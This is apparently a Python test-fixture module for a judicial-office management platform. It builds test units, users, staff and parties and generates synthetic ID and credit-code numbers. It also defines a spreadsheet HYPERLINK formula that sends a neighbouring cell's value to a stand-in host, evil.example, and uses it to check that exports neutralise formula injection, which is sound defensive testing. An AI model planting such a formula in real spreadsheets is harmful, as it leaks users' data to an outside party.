"""Builders for test data. They call the same services users call, so audit rows are real."""

from __future__ import annotations

import datetime as dt
import itertools
from dataclasses import dataclass

from sifasuo.core import services
from sifasuo.core.actors import SystemActor
from sifasuo.core.models import OrgUnit, Party, PartyKind, Staff, UnitKind, User, WorkItem
from sifasuo.core.personal_data import uscc_check_digit
from sifasuo.core.roles import Role

# The actor of test set-up writes (the platform's own set-up, like the demo loader).
SETUP = SystemActor("setup", "测试准备")

PASSWORD = "Test@Pass2026"
_counter = itertools.count(1)


def make_id_number(region: str = "371102", birth: str = "19800101", seq: int | None = None) -> str:
    """A valid 18-digit resident ID number (GB 11643 check digit)."""
    seq = next(_counter) % 1000 if seq is None else seq
    body = f"{region}{birth}{seq:03d}"
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    check = "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]
    return body + check


def make_credit_code(prefix: str = "91371102", serial: str | None = None) -> str:
    serial = serial or f"MA{next(_counter):07d}"
    first17 = (prefix + serial)[:17]
    return first17 + uscc_check_digit(first17)


def unit(name: str, kind: str, parent: OrgUnit | None, **fields) -> OrgUnit:
    return services.unit_create(actor=SETUP, name=name, kind=kind, parent=parent, **fields)


def user(username: str, unit: OrgUnit | None, role: str, **extra) -> User:
    return services.user_create(
        actor=SETUP,
        username=username,
        password=PASSWORD,
        unit=unit,
        role=role,
        display_name=extra.pop("display_name", username),
        check_password=False,
    )


def staff(unit: OrgUnit, name: str = "张明", **values) -> Staff:
    defaults = dict(
        gender="male",
        birth_year=1985,
        post="assistant",
        employment="political_legal",
        education="bachelor",
        law_major=True,
        legal_qualification=False,
        id_number=make_id_number(),
        phone="13853300001",
    )
    defaults.update(values)
    return services.staff_create(actor=SETUP, unit=unit, name=name, **defaults)


def party(unit: OrgUnit, name: str = "李秀英", **values) -> Party:
    defaults = dict(
        kind=PartyKind.PERSON,
        gender="female",
        id_number=make_id_number(),
        phone="13963300002",
        address="日照市东港区秦楼街道海滨二路88号",
    )
    defaults.update(values)
    kind = defaults.pop("kind")
    return services.party_create(actor=SETUP, unit=unit, kind=kind, name=name, **defaults)


def work_item(unit: OrgUnit, title: str = "行政复议答复", **values) -> WorkItem:
    values.setdefault("due_rule", "reconsideration.reply")
    values.setdefault("due_start", dt.date(2026, 9, 28))
    return services.work_item_create(actor=SETUP, unit=unit, title=title, **values)


@dataclass
class World:
    """Two counties: A (offices A1, A2) and B (office B1), with the standing personas."""

    city: OrgUnit
    county_a: OrgUnit
    county_b: OrgUnit
    office_a1: OrgUnit
    office_a2: OrgUnit
    office_b1: OrgUnit
    village_a1: OrgUnit
    police_a1: OrgUnit
    admin: User
    office_user: User  # judicial assistant of A1
    office_head: User  # head of A1
    mediator: User  # mediator of A1 (may reveal personal data)
    advisor: User  # legal advisor of A1 (may not reveal)
    colleague: User  # judicial assistant of A2, same county
    supervisor: User  # county A bureau
    outsider: User  # judicial assistant of B1, other county
    partner: User  # liaison of the A1 police station


def build_world() -> World:
    city = unit("日照市司法局", UnitKind.CITY, None)
    county_a = unit("东港区司法局", UnitKind.BUREAU, city)
    county_b = unit("五莲县司法局", UnitKind.BUREAU, city)
    office_a1 = unit(
        "秦楼司法所",
        UnitKind.OFFICE,
        county_a,
        township_name="秦楼街道",
        township_kind="subdistrict",
    )
    office_a2 = unit(
        "河山司法所", UnitKind.OFFICE, county_a, township_name="河山镇", township_kind="town"
    )
    office_b1 = unit(
        "洪凝司法所",
        UnitKind.OFFICE,
        county_b,
        township_name="洪凝街道",
        township_kind="subdistrict",
    )
    village_a1 = unit("海滨社区", UnitKind.VILLAGE, office_a1)
    police_a1 = unit("秦楼派出所", UnitKind.PARTNER, office_a1, partner_type="police")
    return World(
        city=city,
        county_a=county_a,
        county_b=county_b,
        office_a1=office_a1,
        office_a2=office_a2,
        office_b1=office_b1,
        village_a1=village_a1,
        police_a1=police_a1,
        admin=user("admin", city, Role.SYSTEM_ADMIN),
        office_user=user("a1_assistant", office_a1, Role.JUDICIAL_ASSISTANT),
        office_head=user("a1_head", office_a1, Role.OFFICE_HEAD),
        mediator=user("a1_mediator", office_a1, Role.MEDIATOR),
        advisor=user("a1_advisor", office_a1, Role.LEGAL_ADVISOR),
        colleague=user("a2_assistant", office_a2, Role.JUDICIAL_ASSISTANT),
        supervisor=user("county_a", county_a, Role.SUPERVISOR),
        outsider=user("b1_assistant", office_b1, Role.JUDICIAL_ASSISTANT),
        partner=user("a1_police", police_a1, Role.PARTNER_LIAISON),
    )


# A cell value that would become a live link leaking the neighbouring cell if written as a formula.
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?d="&B2,"点我")'


def assert_formula_is_text(content: bytes) -> None:
    """The workbook shows FORMULA_TEXT as text (an apostrophe first) and holds no formula at all."""
    from io import BytesIO

    from openpyxl import load_workbook

    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert "'" + FORMULA_TEXT in [cell.value for cell in cells]
